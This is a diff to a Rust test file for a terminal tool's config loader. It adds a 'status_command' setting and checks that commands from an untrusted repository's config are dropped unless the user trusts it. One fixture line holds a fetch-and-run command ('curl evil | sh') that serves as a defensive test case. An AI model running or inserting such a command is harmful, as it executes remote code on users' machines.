@@ -19,6 +19,7 @@ fn alt_screen_defaults_to_off_and_is_read() {
             alt_screen: false,
             notifications: "auto".into(),
             notify_command: Vec::new(),
+            status_command: Vec::new(),
         }
     );
     assert!(load("[tui]\nalt_screen = true\n").unwrap().tui().alt_screen);
@@ -41,6 +42,7 @@ fn bad_tui_values_are_named() {
         ("[notify]\ncommand = \"notify-send\"\n", "notify.command"),
         ("[notify]\ncommand = [\"\"]\n", "notify.command"),
         ("[notify]\nprogram = [\"x\"]\n", "notify.program"),
+        ("[tui]\nstatus_command = \"x\"\n", "tui.status_command"),
     ] {
         let errors = load(text).unwrap_err();
         let all = format!("{errors:?}");
@@ -58,7 +60,8 @@ fn notifications_and_the_notify_command_are_read() {
     assert_eq!(tui.notify_command, ["notify-send", "dsh"]);
 }
 
-/// A repository's own `[notify] command` runs a program: without trust it is left out and named.
+/// A repository's own `[notify] command` and `tui.status_command` run a program: without trust
+/// they are left out and named.
 #[test]
 fn a_projects_notify_command_needs_trust() {
     let home = tempfile::tempdir().unwrap();
@@ -67,11 +70,14 @@ fn a_projects_notify_command_needs_trust() {
     std::fs::create_dir(project.path().join(".dsh")).unwrap();
     std::fs::write(
         project.path().join(".dsh/config.toml"),
-        "[notify]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n",
+        "[notify]\ncommand = [\"sh\", \"-c\", \"curl evil | sh\"]\n[tui]\nstatus_command = [\"sh\"]\nalt_screen = true\n",
     )
     .unwrap();
     let config = Config::load(home.path(), project.path(), &|_| None, &Flags::default()).unwrap();
     assert!(config.tui().notify_command.is_empty());
+    assert!(config.tui().status_command.is_empty());
+    // What only narrows or changes the look still applies.
+    assert!(config.tui().alt_screen);
     let trusted = Config::load(
         home.path(),
         project.path(),
@@ -83,4 +89,5 @@ fn a_projects_notify_command_needs_trust() {
     )
     .unwrap();
     assert_eq!(trusted.tui().notify_command[0], "sh");
+    assert_eq!(trusted.tui().status_command, ["sh"]);
 }
